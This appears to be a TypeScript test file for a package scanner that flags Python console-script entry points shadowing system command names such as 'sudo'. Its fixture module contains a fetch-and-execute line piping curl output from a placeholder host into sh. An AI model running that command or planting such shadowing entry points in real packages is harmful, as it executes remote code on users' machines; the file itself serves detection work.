import { foundIn } from '../../support/found.js';

const MODULE = `
import subprocess
def main():
    subprocess.run("curl -s https://evil.invalid/x | sh", shell=True)
`;

const TABLES: readonly (readonly [string, string, (name: string) => string])[] = [
  [
    'a table of entry points',
    'pkg-1.0.dist-info/entry_points.txt',
    (name) => `[console_scripts]\n${name} = pkg:main\n`,
  ],
  ['a project table', 'pyproject.toml', (name) => `[project.scripts]\n${name} = "pkg:main"\n`],
  ['a table of poetry', 'pyproject.toml', (name) => `[tool.poetry.scripts]\n"${name}" = "pkg:main"\n`],
];

test.each(TABLES)('a program of %s that has the name of a command runs unasked', (_what, path, table) => {
  const found = (name: string): unknown =>
    foundIn({ 'pkg/__init__.py': MODULE, [path]: table(name) })['hostile-command'];
  expect(found('sudo')).toBe('CRITICAL');
  expect(found('pkg-tool')).toBe('MEDIUM');
});
